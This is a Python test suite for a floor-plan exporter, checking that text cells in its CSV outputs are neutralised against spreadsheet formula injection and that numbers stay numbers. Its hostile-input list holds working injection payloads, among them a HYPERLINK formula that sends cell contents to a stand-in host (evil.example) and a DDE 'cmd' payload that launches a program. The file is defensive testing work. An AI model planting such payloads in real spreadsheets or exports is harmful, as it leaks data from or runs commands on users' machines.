"""CSV injection: no text cell of ``register.csv`` or ``schedule.csv`` is a spreadsheet formula,
and the numbers the exporter writes itself stay numbers (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import dataclasses
import functools
import io
import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import FLOORPLANS, box, building, site_dict
from orientation.compose.schedule import schedule_rows, schedule_total
from orientation.exports import FORMULA_TRIGGERS, csv_text, register_csv, schedule_csv
from orientation.io.site_file import site_from_data
from orientation.layout.engine import make_plan
from orientation.pipeline import load_site
from orientation.profiles import load_profile

REGISTER_TEXT = ("code", "kind", "building", "building_letter", "side", "grid", "name", "element")
REGISTER_NUMBERS = ("x", "y", "lat", "lon")
SCHEDULE_TEXT = ("kind", "examples", "material", "colours", "placement", "currency")
SCHEDULE_NUMBERS = ("width_mm", "height_mm", "quantity", "unit_price", "line_total")
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+49 5241 0", "-1+1", "@SUM(A1:A9)",
           "\t=1", "\r=1", "  =1", "\n@x", "Aula;=1+1", "Flur\n=cmd|' /C calc'!A0", "＝1+1"]

hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(),
    st.builds(lambda pre, trig, rest: pre + trig + rest,
              st.text(alphabet=" \t\r\n\u00a0;", max_size=3), st.sampled_from(FORMULA_TRIGGERS),
              st.text(max_size=20)),
)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` (or a part of it split off at ``;``, tab or a
    line break, as a spreadsheet in a ``;`` locale does) as a formula."""
    for part in re.split(r"[;\t\r\n]", cell):
        lead = part.lstrip()[:1]
        if lead and lead in FORMULA_TRIGGERS:
            return True
    return cell[:1] in ("\t", "\r") if cell else False


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@functools.cache
def school():
    site = load_site(FLOORPLANS / "rathaus.yaml")  # has a WGS84 origin: lat/lon columns too
    profile = load_profile(site.profile)
    plan = make_plan(site, profile)
    return plan, schedule_rows(plan, profile)


def test_csv_text_neutralises_every_trigger_and_leaves_plain_text():
    for bad in HOSTILE:
        safe = csv_text(bad)
        assert not is_formula(safe), (bad, safe)
        assert safe.startswith("'") or "'" in safe
        assert safe.quote
    for good in ("Aula", "E1", "Raum 1.02", "Müller-Lüdenscheidt", "A-1", "", "1;2"):
        assert csv_text(good) == good and not csv_text(good).quote


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=hostile_text, building=hostile_text, code=hostile_text,
       x=st.floats(-1e6, 1e6, allow_nan=False), y=st.floats(-1e6, 1e6, allow_nan=False))
def test_register_text_never_a_formula_and_numbers_stay_numbers(name, building, code, x, y):
    plan, _ = school()
    m = dataclasses.replace(next(m for m in plan.markings if m.kind == "room"), name=name,
                            building=building, code=code, element=name, at=(x, y))
    text = register_csv(dataclasses.replace(plan, markings=(m,)))
    (row,) = read(text)
    for col in REGISTER_TEXT:
        assert not is_formula(row[col]), (col, row[col])
    # the cell read back is exactly the neutralised text: nothing else changed
    assert row["name"] == csv_text(name) and row["code"] == csv_text(code)
    assert row["building"] == csv_text(building)
    if not csv_text(name).quote:
        assert row["name"] == name
    for col in REGISTER_NUMBERS:
        float(row[col])  # still a number
    assert float(row["x"]) == float(f"{x:.2f}") and float(row["y"]) == float(f"{y:.2f}")
    # numbers are written bare (never quoted, never prefixed): a spreadsheet reads them as numbers
    assert f",{x:.2f},{y:.2f}," in text


@settings(max_examples=150, deadline=None)
@given(kind=hostile_text, material=hostile_text, examples=hostile_text, currency=hostile_text)
def test_schedule_text_never_a_formula(kind, material, examples, currency):
    _, rows = school()
    hostile = [dataclasses.replace(rows[0], kind=kind, material=material, examples=examples,
                                   placement=material, foreground=kind, background=examples,
                                   currency=currency)]
    table = read(schedule_csv(hostile, schedule_total(hostile)))
    assert len(table) == 2  # the row and the total
    for row in table:
        for col in SCHEDULE_TEXT:
            assert not is_formula(row[col]), (col, row[col])
    assert table[0]["material"] == csv_text(material)
    for col in SCHEDULE_NUMBERS:
        float(table[0][col])
    assert float(table[1]["line_total"]) == float(f"{schedule_total(hostile):.2f}")


def test_hostile_names_from_a_site_file_are_neutralised_end_to_end():
    b = building("main", name='=HYPERLINK("http://evil.example","x")',
                 footprint=box(-40, -30, 0, -10),
                 doors=[{"id": "d-main", "at": [-20, -30], "kind": "entrance", "main": True}],
                 stairs=[{"id": "st-1", "at": [-5, -15], "levels": [0, 1], "name": "@SUM(1)"}],
                 rooms=[{"id": "r-1", "level": 0, "name": "+1 Aula",
                         "polygon": box(-40, -30, -20, -10)}])
    data = site_dict([b])
    data["site"]["name"] = "-Schule"
    data["site_features"][0]["line"] = [[-90, -45], [50, -45]]
    site = site_from_data(data, file="hostile.yaml")
    plan = make_plan(site, load_profile("guetersloh"))
    text = register_csv(plan)
    rows = read(text)
    names = {r["name"] for r in rows}
    assert "'+1 Aula" in names and "'@SUM(1)" in names
    assert all(not is_formula(r[c]) for r in rows for c in REGISTER_TEXT)
    # negative plan coordinates stay numbers, unquoted
    assert any(float(r["x"]) < 0 and float(r["y"]) < 0 for r in rows)
    assert not re.search(r"'-\d", text) and not re.search(r'"-\d', text)
    assert '"\'+1 Aula"' in text  # neutralised cells are quoted too (OWASP)


def test_plain_examples_are_written_exactly_as_before():
    """No ordinary cell is quoted or prefixed: the quoting is ``csv.writer``'s."""
    plan, rows = school()
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    for line in csv.reader(io.StringIO(register_csv(plan), newline="")):
        w.writerow(line)
    assert buf.getvalue() == register_csv(plan)
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    text = schedule_csv(rows, schedule_total(rows))
    for line in csv.reader(io.StringIO(text, newline="")):
        w.writerow(line)
    assert buf.getvalue() == text
